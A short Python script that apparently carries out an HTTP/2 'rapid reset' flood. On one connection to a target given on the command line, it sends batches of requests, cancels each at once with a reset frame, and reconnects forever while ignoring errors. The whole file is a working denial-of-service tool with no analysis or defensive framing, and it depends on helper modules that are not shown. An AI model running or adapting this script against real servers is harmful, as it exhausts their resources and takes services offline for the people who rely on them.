"""resets ADDRESS CALLS METHOD: so many calls at a time on one connection, each reset at once, in a loop."""

import contextlib
import itertools
import struct
import sys
import threading

import h2
import stranger

CANCEL = struct.pack(">I", 8)
address, calls, method = sys.argv[1], int(sys.argv[2]), sys.argv[3].encode()
stranger.become()


def drain(peer) -> None:
    try:
        while peer.recv(1 << 16):
            pass
    except OSError:
        pass


def once() -> None:
    with h2.connect(address) as peer:
        threading.Thread(target=drain, args=(peer,), daemon=True).start()
        for first in itertools.count(1, 2 * calls):
            streams = range(first, first + 2 * calls, 2)
            peer.sendall(
                b"".join(h2.call(number, method) + h2.frame(h2.RESET, 0, number, CANCEL) for number in streams)
            )


stranger.at_work()
while True:
    with contextlib.suppress(OSError):
        once()
